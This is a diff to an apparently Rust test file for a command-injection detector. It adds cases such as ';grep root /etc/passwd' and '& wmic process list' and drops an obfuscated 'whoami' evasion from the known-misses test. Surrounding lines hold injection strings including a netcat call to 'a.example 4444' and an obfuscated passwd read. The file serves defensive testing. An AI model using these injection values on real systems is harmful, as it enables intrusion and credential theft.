@@ -59,6 +59,10 @@ fn commands_behind_separators_and_in_substitutions_are_found() {
             ";expr 1 + 1",
             "a|expr 268409241 - 2",
             "a;busybox id",
+            ";grep root /etc/passwd",
+            "a;sleep 5s",
+            "a;ls ~",
+            "& wmic process list",
             "; $u cat /etc$u/passwd$u",
             "|timeout 5",
             "a|nc a.example 4444",
@@ -211,7 +215,7 @@ fn padding_hides_nothing() {
 /// Known misses: a program that nobody knows, and commands that need no separator.
 #[test]
 fn unknown_programs_are_missed() {
-    for text in ["x;mytool", "id", "a=w;b=hoami;$a$b"] {
+    for text in ["x;mytool", "id"] {
         assert_eq!(found(text), [""; 0], "{text}");
     }
 }
